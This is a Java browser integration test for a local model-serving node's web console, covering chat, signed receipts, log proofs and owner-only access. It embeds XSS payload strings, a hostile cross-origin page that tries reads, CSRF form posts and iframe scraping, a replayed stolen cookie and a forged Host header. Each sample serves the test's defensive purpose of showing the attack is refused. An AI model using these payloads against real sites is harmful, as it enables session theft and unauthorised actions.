// SPDX-FileCopyrightText: The Freehold authors
// SPDX-License-Identifier: Apache-2.0
package dev.freehold.it.console;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.sun.net.httpserver.HttpServer;
import dev.freehold.it.Processes;
import dev.freehold.it.browser.Browser;
import dev.freehold.record.Json;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import java.util.Queue;
import java.util.concurrent.BlockingQueue;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.LinkedBlockingQueue;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/**
 * The console of a real node with the default model, in a real browser. With {@code
 * -Dconsole.pictures=FOLDER} it leaves the pictures of docs/console.md there.
 */
@Timeout(180)
class ConsoleTest {
  private static final String MODEL =
      "b179c9523d0e6a0f98a330c7562b682750a6f8c8c15e5bc70ea373728110db53";

  @TempDir private Path folder = Path.of("");

  private static String text(Json.Obj in, String name) {
    return ((Json.Str) in.get(name).orElseThrow()).value();
  }

  /** Only the default model lies there, so that there is something to pull. */
  private void aCacheWithoutTheOtherModels(Processes processes) throws Exception {
    Path model = processes.model(MODEL);
    Path cache = Files.createDirectories(folder.resolve("cache"));
    Files.createDirectory(cache.resolve("models"));
    Files.createSymbolicLink(cache.resolve("models").resolve(MODEL + ".gguf"), model);
    Path note = model.resolveSibling(MODEL + ".json");
    if (Files.exists(note)) {
      Files.copy(note, cache.resolve("models").resolve(MODEL + ".json"));
    }
    Path kernels = model.resolve("../../native").normalize();
    if (Files.exists(kernels)) {
      Files.createSymbolicLink(cache.resolve("native"), kernels);
    }
    processes.set("FREEHOLD_CACHE", cache.toString());
  }

  /** What the first page took, at first and then again: told, not asserted. */
  private static void measured(Browser browser, String base) throws Exception {
    for (int i = 0; i < 6 && System.getProperty("console.pictures") != null; i++) {
      browser.until("performance.getEntriesByType('navigation')[0].loadEventEnd > 0", "true");
      System.out.println(
          "first page: "
              + browser.value(
                  "Math.round(performance.getEntriesByType('navigation')[0].loadEventEnd) + ' ms, '"
                      + " + [...performance.getEntriesByType('navigation'),"
                      + " ...performance.getEntriesByType('resource')].reduce((n, e) => n +"
                      + " e.transferSize, 0) + ' bytes'"));
      browser.open(base + "/console/");
      browser.until("document.querySelector('#model')?.options.length", "1");
    }
  }

  @Test
  void theOwnerAsksSeesTheSealTurnValidAndFollowsItToTheBytes() throws Exception {
    try (Processes processes = new Processes(folder)) {
      assumeTrue(Files.exists(processes.model(MODEL)), "skipped: the default model is not here");
      try (Browser browser = Browser.start(folder)) {
        PageChecks checks = PageChecks.fetch();
        aCacheWithoutTheOtherModels(processes);
        processes.set("HF_ENDPOINT", "http://127.0.0.1:1");
        processes.set("FREEHOLD_PIP", "false");
        Json.Obj up = processes.serve("up", "--port", "0", "--quiet", "--json");
        browser.screen(1000, 640, false);
        String link = text(up, "console");
        String base = link.substring(0, link.indexOf("/console/"));
        PageChecks.enter(browser, up);
        browser.until("document.querySelector('#model')?.options.length", "1");
        browser.until("document.querySelector('#state').textContent", "");
        assertThat(browser.value("document.title")).isEqualTo("Chat \u00b7 Freehold");

        measured(browser, base);
        // The keyboard alone: the question has the focus, Enter asks.
        PageChecks.ask(browser, "What is gravity?");
        browser.until("document.querySelector('.seal')?.textContent", "Valid");
        assertThat(browser.value("document.querySelector('.message:not(.asked)').innerText"))
            .contains("tokens/s")
            .contains("Gravity");
        checks.picture(browser, "chat");
        checks.accessible(browser);
        browser.screen(390, 760, true);
        browser.until("document.documentElement.scrollWidth <= innerWidth", "true");
        checks.picture(browser, "chat-phone-dark");
        checks.accessible(browser);
        browser.screen(1000, 640, false);

        String id = browser.value("document.querySelector('.seal').pathname.split('/').at(-1)");
        browser.value("document.querySelector('.seal').click()");
        browser.until("document.querySelectorAll('#steps > li').length", "7");
        assertThat(
                browser.value(
                    "[...document.querySelectorAll('#steps h2')].map(h => h.textContent).join()"))
            .isEqualTo("mandate,match,execute,receipt,verify,settle,log");
        browser.click("here");
        browser.until("document.querySelector('#checked strong')?.textContent", "Valid");
        assertThat(browser.value("document.querySelector('#checked').innerText"))
            .contains("signed: Valid")
            .contains("transcript: Valid")
            .contains("logged: Valid");
        browser.value("scrollTo(0, 0)");
        checks.picture(browser, "receipt");
        checks.accessible(browser);

        String evidence = PageChecks.asked(browser, "/console/evidence/" + id);
        Path file = folder.resolve("downloaded.json");
        Files.writeString(file, evidence);
        assertThat(processes.verify(file).exit()).isZero();

        browser.open(base + "/console/receipts");
        browser.until("document.querySelectorAll('#list tr').length", "1");
        aChangedFileIsInvalid(browser, evidence);
        checks.picture(browser, "receipts");
        checks.accessible(browser);
        whateverIsChangedTheBrowsersCheckIsSound(browser, evidence);
        noWordOfAModelBecomesMarkup(browser);
        conversationsAreKeptRenamedAndErased(processes, browser, base, checks);
        theOtherPagesShowWhatThereIs(browser, base, checks);
        aStoppedAnswerIsSaidToBe(browser, base);
        whoAsksBeforeTheModelIsLoadedIsAnsweredOnceItIs(browser);
        anotherOriginNeitherReadsNorDrives(browser, base, id);
        onlyTheOwnerGetsALink(processes, base, link);
      }
    }
  }

  private static List<Path> kept(Processes processes) throws IOException {
    try (var files = Files.list(processes.home().resolve("conversations"))) {
      // A file that is being replaced has two names for a moment.
      return files.filter(file -> file.toString().endsWith(".json")).toList();
    }
  }

  private void conversationsAreKeptRenamedAndErased(
      Processes processes, Browser browser, String base, PageChecks checks) throws Exception {
    assertThat(kept(processes)).hasSize(1);
    assertThat(Files.readString(kept(processes).getFirst()))
        .contains("What is gravity?")
        .contains("\"verdict\":\"Valid\"");
    browser.open(base + "/console/");
    // Another visit finds it again, seal and all.
    browser.until("document.querySelector('.seal')?.textContent", "Valid");
    assertThat(browser.value("Object.keys(localStorage) + sessionStorage.length"))
        .as("half of the session, and no word of a conversation")
        .isEqualTo("freehold-session0");
    assertThat(browser.value("document.querySelector('#title').textContent"))
        .isEqualTo("What is gravity?");
    browser.click("rename");
    browser.until("document.activeElement.value", "What is gravity?");
    checks.accessible(browser);
    browser.type("<b>Gravity</b>");
    browser.until("document.querySelector('#title').textContent", "<b>Gravity</b>");
    browser.until("document.querySelector('#conversations').innerText", "<b>Gravity</b>");
    browser.click("new");
    browser.until("document.querySelector('#head').hidden", "true");
    PageChecks.ask(browser, "Say yes.");
    browser.until("document.querySelector('.seal')?.textContent", "Valid");
    browser.until("document.querySelectorAll('#conversations li').length", "2");
    assertThat(kept(processes)).hasSize(2);
    checks.picture(browser, "chat-conversations");
    browser.click("erase");
    browser.until("document.querySelector('dialog')?.open", "true");
    assertThat(browser.value("document.activeElement.textContent")).isEqualTo("Cancel");
    browser.press("Escape", 27);
    browser.until("document.querySelector('dialog')", "null");
    assertThat(kept(processes)).hasSize(2);
    browser.click("erase");
    browser.until("document.querySelector('dialog')?.open", "true");
    browser.value("document.querySelector('dialog .first').click()");
    browser.until("document.querySelectorAll('#conversations li').length", "1");
    assertThat(kept(processes)).hasSize(1);
    aConversationOfAnotherWindowIsNotOverwritten(browser);
    browser.click("erase-all");
    browser.until("document.querySelector('dialog')?.open", "true");
    browser.value("document.querySelector('dialog .first').click()");
    browser.until("document.querySelectorAll('#conversations li').length", "0");
    assertThat(kept(processes)).isEmpty();
  }

  /** It is said where it was asked, and what the other window kept stays. */
  private static void aConversationOfAnotherWindowIsNotOverwritten(Browser browser)
      throws Exception {
    browser.value("document.querySelector('#conversations button').click()");
    browser.until("document.querySelector('#title').textContent", "<b>Gravity</b>");
    assertThat(
            browser.promised(
                "await (async () => { const c = await import('/console/files/conversations.js');"
                    + " const [{id}] = await c.list(); const other = await c.open(id);"
                    + " other.messages.push({role: 'user', content: 'from the other window'});"
                    + " await c.save(other); return other.revision > 2; })()"))
        .isEqualTo("true");
    browser.value("document.querySelector('#question').focus()");
    PageChecks.ask(browser, "Say no.");
    browser.until(
        "document.querySelector('#unkept').textContent.includes('was changed elsewhere')", "true");
    assertThat(
            browser.promised(
                "await (async () => { const c = await import('/console/files/conversations.js');"
                    + " return (await c.open((await c.list())[0].id)).messages.at(-1).content;"
                    + " })()"))
        .isEqualTo("from the other window");
    browser.until("document.querySelector('#stop').hidden", "true");
  }

  private void theOtherPagesShowWhatThereIs(Browser browser, String base, PageChecks checks)
      throws Exception {
    browser.open(base + "/console/log");
    browser.until("document.querySelectorAll('#list tr').length > 1", "true");
    assertThat(browser.value("document.querySelector('#list').innerText"))
        .contains("receipt")
        .contains("verdict");
    Path proof = folder.resolve("entry.tlog-proof");
    Files.writeString(proof, PageChecks.asked(browser, "/console/proof/0"));
    everyEntryIsProvenInTheBrowser(browser);
    checks.accessible(browser);
    browser.open(base + "/console/node");
    browser.until("document.querySelectorAll('#settings tr').length > 5", "true");
    assertThat(browser.value("document.querySelector('#settings').innerText"))
        .contains("port\t0\tcommand line")
        .contains("queue-limit\t64\tdefault")
        .contains("anchor-depth");
    PageChecks.asked(browser, "/v1/models/no-such-model");
    browser.until(
        "document.querySelector('#errors').innerText.includes('GET /v1/models/ID\\t404\\t1')",
        "true");
    assertThat(browser.value("document.querySelector('#load').innerText")).contains("answering");
    checks.everywhere(browser, "node");
    for (String page : new String[] {"market", "money"}) {
      browser.open(base + "/console/" + page);
      browser.until("document.querySelector('#none')?.hidden", "false");
      assertThat(browser.value("document.querySelector('main').innerText"))
          .contains("write ‘chain = URL’, ‘chain-id = NUMBER’ and ‘coin = ADDRESS’")
          .doesNotContain("Offers")
          .doesNotContain("Coins in channels");
      checks.accessible(browser);
    }
    browser.open(base + "/console/models");
    browser.until("document.querySelectorAll('.model').length > 1", "true");
    browser.value("document.querySelector('.model button').click()");
    browser.until("document.querySelector('#list .problem') !== null", "true");
    assertThat(browser.value("document.querySelector('#list .problem').textContent"))
        .contains("could not be pulled")
        .contains("pip could not download");
    checks.everywhere(browser, "models");
  }

  private static void everyEntryIsProvenInTheBrowser(Browser browser) throws Exception {
    String verdict = "document.querySelector('#checked strong')?.textContent";
    browser.value("document.querySelector('#number').focus()");
    browser.type("1");
    browser.value("document.querySelector('#one').requestSubmit()");
    browser.until(verdict, "Valid");
    assertThat(browser.value("document.querySelector('#checked').innerText"))
        .contains("entry 1 of ")
        .contains("included: Valid")
        .contains("checkpoint: Valid")
        .contains("\"kind\":\"verdict\"");
    browser.value("document.querySelector('#number').value = '999'");
    browser.value("document.querySelector('#one').requestSubmit()");
    browser.until(
        "document.querySelector('#checked').textContent", "There is no entry 999 in this log.");
    // One proof, changed in every way: each time for its reason.
    assertThat(
            browser.promised(
                """
                await (async () => {
                  const { call } = await import("/console/files/ask.js");
                  const { checkProof } = await import("/console/files/evidence.js");
                  const text = await (await call("/console/proof/1")).text();
                  const [origin] = text.slice(text.indexOf("\\n\\n") + 2).split("\\n");
                  const node = "did:key:" + origin.split("/").at(-1);
                  const other = node.slice(0, -1) + (node.endsWith("a") ? "b" : "a");
                  const lines = text.split("\\n");
                  const swapped = (at, by) => lines.map((line, i) => (i === at ? by(line) : line)).join("\\n");
                  const flip = (line) => line.slice(0, 8) + (line[8] === "A" ? "B" : "A") + line.slice(9);
                  const signature = lines.findLastIndex((line) => line.startsWith("\u2014"));
                  const size = lines.indexOf("") + 2;
                  const told = [];
                  for (const [changed, who, index] of [[text, node, 1], [swapped(1, (l) => flip(l)), node, 1], [text, node, 0],
                    [swapped(3, flip), node, 1], [swapped(size, (l) => String(Number(l) + 1)), node, 1], [swapped(signature, (l) => l.slice(0, -9) + (l.at(-9) === "A" ? "B" : "A") + l.slice(-8)), node, 1],
                    [text, other, 1], [lines.slice(0, signature).join("\\n") + "\\n", node, 1], [text.replace("@v1", "@v2"), node, 1], [lines.toSpliced(1, 1).join("\\n"), node, 1], ["", node, 1]]) {
                    const result = await checkProof(changed, who, index);
                    told.push(result.verdict + ": " + result.claims.filter((c) => c.reason).map((c) => c.reason).join("; "));
                  }
                  return told.join("\\n");
                })()
                """))
        .isEqualTo(
            """
            Valid:\s
            Invalid: the path from the entry does not lead to the checkpoint's root
            Invalid: the proof is of entry 1
            Invalid: the path from the entry does not lead to the checkpoint's root
            Invalid: the checkpoint's signature is wrong
            Invalid: the checkpoint's signature is wrong
            Invalid: the checkpoint is of another log
            Invalid: the checkpoint's signatures end with one line feed
            Invalid: the proof is no C2SP tlog-proof with its entry
            Invalid: the proof is no C2SP tlog-proof with its entry
            Invalid: the proof is no C2SP tlog-proof with its entry""");
  }

  private static void aStoppedAnswerIsSaidToBe(Browser browser, String base) throws Exception {
    browser.open(base + "/console/");
    browser.until("document.querySelector('#model')?.options.length", "1");
    browser.click("new");
    // Without chance, so that the answer is as long each time.
    browser.value(
        "(() => { const plain = window.fetch; window.fetch = (to, how) =>"
            + " plain(to, String(to).includes('completions') ? {...how, body:"
            + " JSON.stringify({...JSON.parse(how.body), temperature: 0})} : how); })()");
    browser.type("Write a long story about a lighthouse.");
    browser.until("document.querySelector('.message:not(.asked)')?.innerText.length > 60", "true");
    browser.click("stop");
    browser.until("document.querySelector('.foot')?.innerText.includes('stopped')", "true");
    browser.until("document.querySelectorAll('#conversations li').length", "1");
    browser.until(
        "(() => { const r = new XMLHttpRequest(); r.open('GET', '/v1/receipts', false); r.send();"
            + " return JSON.parse(r.responseText).data.length; })()",
        "4");
  }

  /** The node's word is exchanged for that of one whose model is still being loaded. */
  private static void whoAsksBeforeTheModelIsLoadedIsAnsweredOnceItIs(Browser browser)
      throws Exception {
    browser.click("new");
    browser.value(
        "(() => { window.loading = true; const plain = window.fetch; window.fetch = async (to,"
            + " how) => { const answer = await plain(to, how); if (!window.loading ||"
            + " !String(to).endsWith('/v1/models')) return answer; const told = await"
            + " answer.json(); told.data.forEach(m => { m.freehold.state = 'loading'; }); return"
            + " Response.json(told); }; })()");
    String again = "document.querySelector('#tier').dispatchEvent(new Event('change'))";
    browser.value(again);
    browser.until(
        "document.querySelector('#state').textContent", "smollm2-135m-instruct is loading");
    browser.value("document.querySelector('#question').focus()");
    PageChecks.ask(browser, "Say yes.");
    browser.until(
        "document.querySelector('.foot')?.innerText",
        "waits until smollm2-135m-instruct is loaded");
    browser.value("(() => { window.loading = false; })()");
    browser.value(again);
    browser.until("document.querySelector('.seal')?.textContent", "Valid");
    browser.until("document.querySelector('#state').textContent", "");
  }

  private static void give(Browser browser, String evidence) throws Exception {
    String quoted = Json.of(evidence).write();
    browser.value("document.querySelector('#checked').replaceChildren()");
    browser.value(
        "(() => { const all = new DataTransfer(); all.items.add(new File(["
            + quoted
            + "], 'answer.json')); const file = document.getElementById('file'); file.files ="
            + " all.files; file.dispatchEvent(new Event('change')); })()");
  }

  private static void aChangedFileIsInvalid(Browser browser, String evidence) throws Exception {
    String verdict = "document.querySelector('#checked strong')?.textContent";
    String reasons = "document.querySelector('#checked').innerText";
    give(browser, evidence);
    browser.until(verdict, "Valid");
    give(browser, evidence.replaceFirst("\"arithmetic\":1", "\"arithmetic\":2"));
    browser.until(verdict, "Invalid");
    assertThat(browser.value(reasons)).contains("the signature is not the node's");
    give(browser, evidence.replace("gravity", "levity"));
    browser.until(verdict, "Invalid");
    assertThat(browser.value(reasons)).contains("the request is not what the receipt");
    give(browser, evidence.replaceFirst("\"sequence\":0", "\"sequence\":1"));
    browser.until(verdict, "Invalid");
    assertThat(browser.value(reasons)).contains("does not lead to the checkpoint's root");
    give(browser, evidence + " ");
    browser.until(verdict, "Invalid");
    assertThat(browser.value(reasons)).contains("not canonical JSON");
    give(browser, "no evidence");
    browser.until(verdict, "Invalid");
    assertThat(browser.value(reasons)).contains("not JSON");
    give(browser, evidence.replace("gravity", "levity"));
    browser.until(verdict, "Invalid");
  }

  private static void whateverIsChangedTheBrowsersCheckIsSound(Browser browser, String evidence)
      throws Exception {
    String fuzz = Files.readString(Path.of("src", "test", "browser", "evidence-fuzz.js"));
    assertThat(
            browser.promised(
                "await ("
                    + fuzz.substring(fuzz.indexOf("async (whole"))
                    + ")("
                    + Json.of(evidence).write()
                    + ", 20261129, 1500)"))
        .isEqualTo("sound");
  }

  private static void noWordOfAModelBecomesMarkup(Browser browser) throws Exception {
    String attack =
        Json.of(
                "<img src=x onerror=hit()> **<script>hit()</script>** `<b>` [x](javascript:hit())\n"
                    + "- <svg onload=hit()>\n```\n<iframe>\n```\n# <a href=//evil>")
            .write();
    assertThat(
            browser.promised(
                "await (async () => { const m = await import('/console/files/markdown.js'); const"
                    + " d = document.createElement('div'); m.render(d, "
                    + attack
                    + "); return [...new Set([...d.querySelectorAll('*')].map(e =>"
                    + " e.localName + e.attributes.length))].sort().join(); })()"))
        .isEqualTo("code0,li0,p0,pre1,strong0,ul0");
    // And the policy would stop what slipped through.
    assertThat(
            browser.value(
                "(() => { try { document.body.innerHTML = '<b>x</b>'; return 'done'; } catch (e) {"
                    + " return e.name; } })()"))
        .isEqualTo("TypeError");
  }

  /** Another port of this machine is the same site, so that the cookie alone would not tell. */
  private static void anotherOriginNeitherReadsNorDrives(Browser browser, String base, String id)
      throws Exception {
    BlockingQueue<String> told = new LinkedBlockingQueue<>();
    Queue<String> cookies = new ConcurrentLinkedQueue<>();
    HttpServer evil =
        HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    String page =
        """
        <!doctype html><script>
        const tries = {
          read: () => fetch("BASE/console/evidence/ID", {credentials: "include"}).then(r => r.text()),
          blind: () => fetch("BASE/console/judge/ID", {method: "POST", mode: "no-cors", credentials: "include"}).then(r => r.type),
          ask: () => fetch("BASE/v1/chat/completions", {method: "POST", body: "{}"}).then(r => r.text()),
          form: () => { const t = document.createElement("iframe"); t.name = "t"; document.documentElement.append(t);
            const f = document.createElement("form"); f.method = "post"; f.target = "t"; f.enctype = "text/plain"; f.action = "BASE/console/conversations/erase-all";
            document.documentElement.append(f); const loaded = new Promise((yes) => { t.onload = () => yes("sent"); }); f.submit(); return loaded; },
          script: () => new Promise((yes, no) => { const s = document.createElement("script");
            s.src = "BASE/console/files/evidence.js"; s.onload = () => yes("loaded"); s.onerror = () => no("refused"); document.head.append(s); }),
          frame: () => new Promise((yes) => { const f = document.createElement("iframe"); f.src = "BASE/console/";
            f.onload = () => { try { yes(f.contentDocument.body.innerText); } catch (e) { yes("unreadable"); } }; document.documentElement.append(f); }),
        };
        (async () => { let all = ""; for (const [name, go] of Object.entries(tries)) {
          all += name + ": " + await go().catch(() => "refused") + "\\n"; }
          await fetch("/told", {method: "POST", body: all}); })();
        </script>
        """
            .replace("BASE", base)
            .replace("ID", id);
    evil.createContext(
        "/",
        exchange -> {
          try (exchange) {
            cookies.add(String.valueOf(exchange.getRequestHeaders().getFirst("Cookie")));
            if (exchange.getRequestURI().getPath().equals("/told")) {
              told.add(new String(exchange.getRequestBody().readAllBytes(), UTF_8));
            }
            byte[] body = page.getBytes(UTF_8);
            exchange.getResponseHeaders().set("Content-Type", "text/html");
            exchange.sendResponseHeaders(200, body.length);
            exchange.getResponseBody().write(body);
          }
        });
    evil.start();
    try {
      HttpClient client = HttpClient.newHttpClient();
      HttpRequest metrics = HttpRequest.newBuilder(URI.create(base + "/metrics")).build();
      List<String> before = done(client.send(metrics, HttpResponse.BodyHandlers.ofString()));
      browser.open("http://127.0.0.1:" + evil.getAddress().getPort() + "/");
      String all = told.poll(30, TimeUnit.SECONDS);
      assertThat(all)
          .isEqualTo(
              "read: refused\nblind: opaque\nask: refused\nform: sent\nscript: refused\nframe:"
                  + " unreadable\n");
      // Its server got the session's cookie, as every port of this machine does: of no use.
      String cookie = cookies.peek();
      assertThat(cookie).contains("freehold-");
      HttpRequest.Builder stolen =
          HttpRequest.newBuilder(URI.create(base + "/console/evidence/" + id))
              .header("Cookie", cookie);
      assertThat(status(client, stolen)).isEqualTo(401);
      HttpRequest.Builder driven =
          HttpRequest.newBuilder(URI.create(base + "/console/conversations/erase-all"))
              .header("Cookie", cookie)
              .header("Origin", base)
              .header("Content-Type", "application/json")
              .POST(HttpRequest.BodyPublishers.ofString("{}"));
      assertThat(status(client, driven)).isEqualTo(401);
      HttpResponse<String> after = client.send(metrics, HttpResponse.BodyHandlers.ofString());
      // Its requests came, and each was refused: no more was done than before.
      assertThat(done(after)).isEqualTo(before).isNotEmpty();
      assertThat(after.body())
          .contains("method=\"POST\",path=\"/console/ID\",status=\"403\"} 2")
          .contains("path=\"/v1/chat/completions\",status=\"403\"} 1");
      client.close();
    } finally {
      evil.stop(0);
    }
  }

  /** How often something was posted with success. */
  private static List<String> done(HttpResponse<String> metrics) {
    return metrics
        .body()
        .lines()
        .filter(line -> line.contains("method=\"POST\"") && line.contains("status=\"200\""))
        .toList();
  }

  private static int status(HttpClient client, HttpRequest.Builder request) throws Exception {
    return client.send(request.build(), HttpResponse.BodyHandlers.discarding()).statusCode();
  }

  private static void onlyTheOwnerGetsALink(Processes processes, String base, String spent)
      throws Exception {
    Path token = processes.home().resolve("owner");
    assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(token)))
        .isEqualTo("rw-------");
    try (HttpClient client = HttpClient.newHttpClient()) {
      int port = URI.create(base).getPort();
      try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), port)) {
        socket
            .getOutputStream()
            .write("GET /console/ HTTP/1.1\r\nHost: evil.example\r\n\r\n".getBytes(UTF_8));
        byte[] status = socket.getInputStream().readNBytes("HTTP/1.1 403".length());
        assertThat(new String(status, UTF_8)).isEqualTo("HTTP/1.1 403");
      }
      // Pages are the same for everybody; what they would show is the owner's.
      URI data = URI.create(base + "/console/data/conversations");
      URI link = URI.create(base + "/console/link");
      assertThat(status(client, HttpRequest.newBuilder(data))).isEqualTo(401);
      assertThat(entered(client, base, spent).statusCode()).isEqualTo(401);
      HttpRequest.Builder post =
          HttpRequest.newBuilder(link).POST(HttpRequest.BodyPublishers.noBody());
      assertThat(status(client, post.copy())).isEqualTo(401);
      assertThat(status(client, post.copy().header("Authorization", "Bearer 00"))).isEqualTo(401);
      Processes.Run made = processes.cli("console", "--json");
      assertThat(made.exit()).as(made.err()).isZero();
      String fresh = text((Json.Obj) Json.parse(made.out().getBytes(UTF_8)), "console");
      assertThat(entered(client, base, fresh, "Sec-Fetch-Site", "cross-site").statusCode())
          .isEqualTo(403);
      HttpResponse<String> entered = entered(client, base, fresh);
      assertThat(entered.statusCode()).isEqualTo(200);
      assertThat(entered(client, base, fresh).statusCode()).isEqualTo(401);
      String key = text((Json.Obj) Json.parse(entered.body().getBytes(UTF_8)), "session");
      String cookie = entered.headers().firstValue("Set-Cookie").orElseThrow().split(";", -1)[0];
      HttpRequest.Builder asked = HttpRequest.newBuilder(data);
      assertThat(status(client, asked.copy().header("Cookie", cookie))).isEqualTo(401);
      assertThat(status(client, asked.copy().header("Freehold-Session", key))).isEqualTo(401);
      asked.header("Cookie", cookie).header("Freehold-Session", key);
      assertThat(status(client, asked.copy())).isEqualTo(200);
      assertThat(status(client, asked.header("Sec-Fetch-Site", "same-site"))).isEqualTo(403);
    }
  }

  private static HttpResponse<String> entered(
      HttpClient client, String base, String link, String... headers) throws Exception {
    HttpRequest.Builder request =
        HttpRequest.newBuilder(URI.create(base + "/console/enter"))
            .header("Origin", base)
            .header("Content-Type", "application/json")
            .POST(
                HttpRequest.BodyPublishers.ofString(
                    "{\"once\":\"" + link.substring(link.indexOf('=') + 1) + "\"}"));
    if (headers.length > 0) {
      request.headers(headers);
    }
    return client.send(request.build(), HttpResponse.BodyHandlers.ofString());
  }
}
